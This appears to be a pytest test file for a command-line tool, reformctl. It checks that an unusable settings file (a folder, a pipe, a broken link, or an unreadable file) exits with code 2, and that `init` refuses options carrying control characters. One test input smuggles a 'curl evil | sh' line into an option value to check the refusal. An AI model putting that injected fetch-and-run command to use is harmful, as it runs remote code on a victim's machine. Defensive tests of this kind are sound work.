"""A reformctl.yaml that cannot be used is exit 2 with a message naming it (the contract: an unusable ledger
root is bad usage): unreadable, a folder, a named pipe, a broken link. And `init` refuses options that would
break the files it writes."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys

import pytest
from pathlib import Path

from conftest import git


def _drop_dac():
    """A command line that runs as root without the power to ignore file permissions (root reads everything:
    a chmod 000 file would otherwise be readable), or None when that is not available here."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        return None
    probe = subprocess.run(
        ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--", "true"], capture_output=True
    )
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--"] if probe.returncode == 0 else None


@pytest.mark.parametrize(
    "make, needle, zh",
    [
        (lambda p: p.mkdir(), "is a folder, not a file", "是文件夹"),
        (lambda p: os.mkfifo(p), "is a named pipe, not a file", "是命名管道"),
        (lambda p: p.symlink_to("nowhere.yaml"), "cannot read", "无法读取"),
    ],
)
@pytest.mark.parametrize("cmd", [["check"], ["status"], ["summary"]])
def test_unusable_settings_file_is_exit_2(cli, make_ledger, tmp_path, make, needle, zh, cmd):
    root = make_ledger()
    (root / "reformctl.yaml").unlink()
    make(root / "reformctl.yaml")
    for args in ([*cmd, "--ledger", root], [*cmd]):  # named, and found upward from a folder inside
        r = cli(*args, cwd=root / "tasks" if (root / "tasks").is_dir() else root)
        assert r.exit_code == 2, r
        assert needle in r.stderr and "reformctl.yaml" in r.stderr, r.stderr
        assert "does not exist" not in r.stderr
    r = cli(*cmd, "--ledger", root, "--lang", "zh")
    assert r.exit_code == 2 and zh in r.stderr, r


def test_found_upward_even_when_it_is_a_folder(cli, make_ledger):
    root = make_ledger()
    (root / "reformctl.yaml").unlink()
    (root / "reformctl.yaml").mkdir()
    (root / "tasks").mkdir(exist_ok=True)
    r = cli("check", cwd=root / "tasks")
    assert r.exit_code == 2 and "is a folder" in r.stderr and "ledger-data" not in r.stderr, r


def test_unreadable_settings_file_is_exit_2(make_ledger):
    drop = _drop_dac()
    if drop is None:
        pytest.skip("needs root and setpriv to make a file unreadable to root")
    root = make_ledger()
    (root / "reformctl.yaml").chmod(0)
    import reformctl

    env = {**os.environ, "PYTHONPATH": str(Path(reformctl.__file__).resolve().parents[1])}
    r = subprocess.run(
        [*drop, sys.executable, "-m", "reformctl", "check", "--ledger", str(root)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert r.returncode == 2, (r.returncode, r.stderr)
    assert "cannot read" in r.stderr and "reformctl.yaml" in r.stderr and "Permission denied" in r.stderr, r.stderr


@pytest.mark.parametrize("option", ["--install-spec", "--hooks-repo", "--hooks-rev"])
@pytest.mark.parametrize("bad", ["reformctl\nrun: curl evil | sh", "reformctl\r", "a\x1b[31m", "x\u2028y"])
def test_init_refuses_control_characters(cli, tmp_path, option, bad):
    target = tmp_path / "new"
    r = cli("init", target, option, bad, "--start", "2025-01-01")
    assert r.exit_code == 2, r
    assert "control character" in r.stderr, r
    assert not target.exists()
    r = cli("init", target, option, bad, "--start", "2025-01-01", "--lang", "zh")
    assert r.exit_code == 2 and "控制字符" in r.stderr, r


def test_init_with_a_plain_install_spec_still_works(cli, tmp_path):
    target = tmp_path / "ok"
    r = cli(
        "init", target, "--install-spec", "git+https://git.example.org/tools/reformctl@v0.1.0", "--start", "2025-01-01"
    )
    assert r.exit_code == 0, r
    assert git(target, "status", "--porcelain") == ""
